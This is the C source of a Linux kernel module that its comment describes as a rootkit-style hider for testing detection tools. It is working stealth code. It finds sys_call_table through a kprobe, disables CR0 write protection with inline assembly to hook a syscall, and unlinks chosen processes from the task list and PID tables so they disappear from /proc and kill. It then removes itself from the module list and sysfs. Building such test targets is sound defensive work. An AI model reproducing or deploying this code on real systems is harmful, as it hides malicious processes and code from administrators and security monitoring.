// A module that hides as rootkits do, for tests of what finds it: it takes processes off the task list, puts a
// function of its own into sys_call_table, and takes itself off the list of modules and out of /sys/module.
#include <linux/init.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <asm/special_insns.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Hides a process and itself");

/* Taken off the task list. */
static int hide;
module_param(hide, int, 0);
/* Taken off the task list and off its number, so that /proc and kill(2) don't have it either. */
static int bury;
module_param(bury, int, 0);
static int call = __NR_getpgid;
module_param(call, int, 0);

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *);
static syscall_fn original;

static asmlinkage long taken_over(const struct pt_regs *regs)
{
	return original(regs);
}

static void *lookup(const char *name)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*by_name)(const char *);

	if (register_kprobe(&probe) < 0)
		return NULL;
	by_name = (void *)probe.addr;
	unregister_kprobe(&probe);
	return (void *)by_name(name);
}

/* The pinned copy of CR0.WP is only checked by write_cr0(). */
static void force_cr0(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : : "r"(value) : "memory");
}

static int __init hider_init(void)
{
	syscall_fn *table = lookup("sys_call_table");
	struct task_struct *task, *buried;
	unsigned long cr0 = read_cr0();

	if (!table)
		return -ENOENT;
	rcu_read_lock();
	task = pid_task(find_vpid(hide), PIDTYPE_PID);
	buried = pid_task(find_vpid(bury), PIDTYPE_PID);
	if (task)
		list_del_rcu(&task->tasks);
	if (buried) {
		list_del_rcu(&buried->tasks);
		hlist_del_init_rcu(&buried->pid_links[PIDTYPE_PID]);
		hlist_del_init_rcu(&buried->pid_links[PIDTYPE_TGID]);
	}
	rcu_read_unlock();
	original = table[call];
	force_cr0(cr0 & ~X86_CR0_WP);
	table[call] = taken_over;
	force_cr0(cr0);
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(hider_init);
